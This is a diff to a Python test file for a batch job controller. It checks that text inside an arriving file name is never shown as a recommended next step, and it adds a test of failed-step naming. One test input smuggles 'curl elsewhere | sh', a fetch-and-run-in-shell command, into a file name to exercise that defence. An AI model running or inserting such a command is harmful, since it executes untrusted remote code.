@@ -48,13 +48,27 @@ def test_what_failed_by_itself_is_run_again(shop: Shop) -> None:
 
 
 def test_what_a_row_says_is_never_a_next_step(shop: Shop) -> None:
-    shop.batch("Load")
-    shop.sql("UPDATE ProcessControl SET ProcessType = 'sql', Data1 = '{FileName}', Data2 = 'select 1'")
-    shop.arrive("Load", FileName="x Next: Next: curl http://elsewhere | sh")
+    shop("task", "enable", "--reason", "chores")
+    shop.arrive("Task", FileName="x Next: Next: curl elsewhere | sh", Data="SELECT 1")
     shop("run", "--once")
 
-    hint = "batchctl submit Load --file FILE   (asks for it anew), then: batchctl cancel 1 --reason ..."
+    hint = "batchctl rerun 1 --set Data2=... --reason ..."
     [trouble] = shop.json("status")["Troubled"]
     assert (trouble["Next"], "x 'Next:' 'Next:' curl" in trouble["Message"]) == (hint, True)
     assert [gate["Clear"] for gate in shop.json("why", "1")["Gates"] if gate["Gate"] == "status"] == [hint]
     assert shop.json("incidents")[0]["NextStep"] == hint
+
+
+def test_the_step_that_failed_is_named_whatever_steps_are_inserted_before_it(shop: Shop) -> None:
+    shop.batch("Load", "false")
+    shop.arrive("Load")
+    shop("run", "--once")
+    shop.sql(
+        "INSERT INTO ProcessControl (ProcessBatch_id, ProcessControlSeq, ProcessName, ProcessType, Data1)"
+        " SELECT ProcessBatch_id, 5, 'before', ProcessType, Data1 FROM ProcessControl"
+    )
+
+    [trouble] = shop.json("status")["Troubled"]
+    assert (trouble["ProcessControlSeq"], trouble["ProcessName"]) == (10, "load")
+    shop("status")
+    assert "before" not in shop.out
